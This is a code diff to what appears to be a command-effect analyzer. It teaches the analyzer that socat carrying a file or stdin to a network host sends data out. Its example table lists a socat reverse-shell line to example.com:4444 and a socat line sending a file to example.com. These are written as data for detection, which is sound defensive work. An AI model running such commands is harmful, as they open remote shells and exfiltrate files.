@@ -1,3 +1,4 @@
+import type { Args } from '../../arguments.ts'
 import { connect, defineCommand, type Draft, execute, printsTainted, read, send, unknown, write } from '../../command-spec.ts'
 import { dropPrefix, join, knownPrefix, literal, show, type Word } from '../../value.ts'
 import { optionTable } from '../_option-table.ts'
@@ -41,13 +42,12 @@ export default [
     about: 'join two streams of any kind',
     style: 'posix',
     options: optionTable({ flag: '-d -dd -ddd -D -h -l -ls -lu -ly -s -u -U -v -V -x -g -4 -6', value: '-b -t -T -L -lf -lp -lm -W' }),
-    effects: ({ operands }) => {
-      return operands.flatMap((address) => addressEffects(address))
-    },
+    effects: joins,
     examples: [
       ['socat - TCP:example.com:80', 'connect:login example.com:80'],
       ['socat TCP:example.com:4444 EXEC:/bin/sh', 'connect:login example.com:4444', 'execute:remote-shell EXEC:/bin/sh'],
       ['socat TCP-LISTEN:8080,fork TCP:localhost:3000', 'connect:listen 8080', 'connect:login localhost:3000'],
+      ['socat FILE:a.txt TCP:example.com:80', 'read a.txt', 'write a.txt', 'connect:login example.com:80', 'send:data example.com:80'],
       ['socat - MAGIC:x', 'unknown: address `MAGIC:x` of `socat` is not described'],
     ],
   }),
@@ -87,6 +87,17 @@ export default [
     ],
   }),
 ]
+
+/** What comes out of one address goes into the other. */
+function joins({ operands, hasStdin }: Args): readonly Draft[] {
+  const drafts = operands.flatMap(addressEffects)
+  const files = drafts.flatMap((draft) =>
+    draft.do === 'effect' && draft.kind === 'read' && typeof draft.target !== 'string' ? [draft.target] : [],
+  )
+  const carries = [...files, ...(hasStdin ? (['stdin'] as const) : [])]
+  const host = drafts.find((draft) => draft.do === 'effect' && draft.kind === 'connect')
+  return host?.do === 'effect' && carries.length > 0 ? [...drafts, send('data', host.target, { carries })] : drafts
+}
 
 function addressEffects(address: Word): readonly Draft[] {
   const text = show(address)
